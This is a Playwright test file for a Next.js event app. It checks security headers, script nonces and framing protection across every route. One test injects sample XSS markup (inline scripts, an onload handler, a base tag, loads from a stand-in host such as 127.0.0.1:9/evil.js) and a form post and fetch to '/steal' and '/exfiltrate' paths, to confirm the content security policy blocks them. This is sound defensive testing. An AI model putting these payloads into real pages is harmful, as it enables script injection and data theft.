import { readdirSync } from "node:fs";
import { join } from "node:path";
import { root } from "@/scripts/stack/root";
import { eventPath, signIn } from "./people";
import { expect, type Page, test } from "./test";

/** An address for every route. A new route without one fails the first test. */
async function addresses(page: Page): Promise<Record<string, string>> {
	await signIn(page, "Olga Lindqvist");
	const photo = await page.locator("[data-photo-id] a").first().getAttribute("href");
	return {
		"page.tsx": "/",
		"not-found.tsx": "/no-such-page",
		"sign-in/page.tsx": "/sign-in",
		"sign-in/link/page.tsx": "/sign-in/link?token=none",
		"events/page.tsx": "/events",
		"events/new/page.tsx": "/events/new",
		"operations/page.tsx": "/operations",
		"events/[slug]/page.tsx": eventPath,
		"events/[slug]/overview/page.tsx": `${eventPath}/overview`,
		"events/[slug]/log/page.tsx": `${eventPath}/log`,
		"events/[slug]/gallery/page.tsx": `${eventPath}/gallery`,
		"events/[slug]/gallery/queue/page.tsx": `${eventPath}/gallery/queue`,
		"events/[slug]/roll/page.tsx": `${eventPath}/roll`,
		"events/[slug]/roll/import/page.tsx": `${eventPath}/roll/import`,
		"events/[slug]/door/page.tsx": `${eventPath}/door`,
		"events/[slug]/settings/page.tsx": `${eventPath}/settings`,
		"events/[slug]/venue/page.tsx": `${eventPath}/venue`,
		"events/[slug]/venue/print/page.tsx": `${eventPath}/venue/print`,
		"events/[slug]/take-home/page.tsx": `${eventPath}/take-home`,
		"events/[slug]/join/page.tsx": `${eventPath}/join?ticket=none`,
		"events/[slug]/join/[code]/route.ts": `${eventPath}/join/none`,
		"events/[slug]/not-found.tsx": "/events/no-such-event",
		"events/[slug]/photos/[photoId]/page.tsx": photo ?? "",
		"events/[slug]/photos/[photoId]/not-found.tsx": `${eventPath}/photos/none`,
		"(wall)/events/[slug]/live/page.tsx": `${eventPath}/live`,
		"(wall)/events/[slug]/live/not-found.tsx": "/events/no-such-event/live",
		"api/health/live/route.ts": "/api/health/live",
		"api/health/ready/route.ts": "/api/health/ready",
		"api/health/work/route.ts": "/api/health/work",
		"api/auth/[...nextauth]/route.ts": "/api/auth/session",
		"api/cover/[slug]/route.ts": "/api/cover/none",
		"api/cron/sweep/route.ts": "/api/cron/sweep",
		"api/trpc/[trpc]/route.ts": "/api/trpc/events.mine",
		"icon.svg": "/favicon.ico",
	};
}

const everywhere = {
	"x-content-type-options": "nosniff",
	"referrer-policy": "same-origin",
	"cross-origin-opener-policy": "same-origin",
	"cross-origin-resource-policy": "same-origin",
	"x-frame-options": "DENY",
	"permissions-policy": expect.stringContaining("camera=(), microphone=(), geolocation=()"),
	"content-security-policy": expect.stringMatching(/^default-src 'none'; .*frame-ancestors 'none'/),
};

test("every route has its headers, every page a nonce on its scripts, and no page violates the policy", async ({
	page,
	expectErrors,
}) => {
	expectErrors(/(no-such|none).*404/);
	const known = await addresses(page);
	const routes = readdirSync(join(root, "app"), { recursive: true, encoding: "utf8" }).filter((file) =>
		/(^|\/)(page\.tsx|not-found\.tsx|route\.ts|icon\.svg)$/.test(file),
	);
	expect(routes.sort()).toEqual(Object.keys(known).sort());

	for (const [file, address] of Object.entries(known)) {
		const isPage = file.endsWith(".tsx");
		const response = isPage
			? await page.goto(address, { waitUntil: "networkidle" })
			: await page.request.get(address);
		const headers = response?.headers() ?? {};
		expect(headers, address).toMatchObject(everywhere);
		// Not sent over plain http, where browsers must ignore it.
		expect(headers["strict-transport-security"]).toBeUndefined();
		expect(headers["x-powered-by"]).toBeUndefined();
		if (!isPage) continue;
		expect(headers["content-security-policy"]).not.toMatch(/script-src[^;]*unsafe|style-src [^;]*unsafe/);
		const nonce = /'nonce-([^']+)'/.exec(headers["content-security-policy"] ?? "")?.[1];
		const scripts = await page
			.locator("script")
			.evaluateAll((all) => all.map((script) => (script instanceof HTMLScriptElement ? script.nonce : "")));
		expect(scripts.length, address).toBeGreaterThan(0);
		// Scripts that Next's loader adds later need no nonce, because 'strict-dynamic' trusts what a trusted script loads.
		expect(scripts, address).toContain(nonce);
		await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
	}
});

/** What an injection hole could write into the server's markup, under the page's own headers. */
const smuggled = `<script>document.title = "taken over"</script>
	<script src="http://127.0.0.1:9/evil.js"></script>
	<img src="/icon.svg" onload="document.title = 'taken over'">
	<img src="http://127.0.0.1:9/pixel.gif">
	<style>body { display: none }</style>
	<iframe src="/events"></iframe>
	<object data="/icon.svg"></object>
	<base href="http://127.0.0.1:9/">`;

test("markup injected into a page cannot run scripts, load resources or send data", async ({
	page,
	expectErrors,
	baseURL,
}) => {
	expectErrors(/Content.Security.Policy|violates|Failed to fetch|Hydration|Minified React error/i);
	await page.route("/sign-in", async (route) => {
		const response = await route.fetch();
		await route.fulfill({ response, body: (await response.text()).replace("</main>", `${smuggled}</main>`) });
	});
	await page.addInitScript(() => {
		const refused = new Set<string>();
		document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
			refused.add(effectiveDirective),
		);
		Object.assign(window, { refused });
	});
	await page.goto("/sign-in");
	await expect(page).not.toHaveTitle("taken over");
	await expect(page.getByRole("heading", { name: "Sign in" })).toBeVisible();
	await page.evaluate(() => {
		const form = document.createElement("form");
		Object.assign(form, { action: "http://127.0.0.1:9/steal", method: "post" });
		document.body.append(form);
		form.submit();
		return fetch("http://127.0.0.1:9/exfiltrate").catch(() => {});
	});

	const refused = () =>
		page.evaluate(() =>
			"refused" in window && window.refused instanceof Set ? [...window.refused].sort() : [],
		);
	await expect
		.poll(refused)
		.toEqual([
			...["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src"],
			...["script-src-attr", "script-src-elem", "style-src-elem"],
		]);
	expect(page.url()).toBe(`${baseURL}/sign-in`);
});

test("no other site can frame a page", async ({ page, baseURL, expectErrors }) => {
	expectErrors(/frame-ancestors|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE|refused/i);
	await page.route("http://127.0.0.1:9/", (route) =>
		route.fulfill({ contentType: "text/html", body: `<iframe src="${baseURL}/sign-in"></iframe>` }),
	);
	await page.goto("http://127.0.0.1:9/");
	await expect(page.frameLocator("iframe").getByRole("heading", { name: "Sign in" })).toHaveCount(0);
});
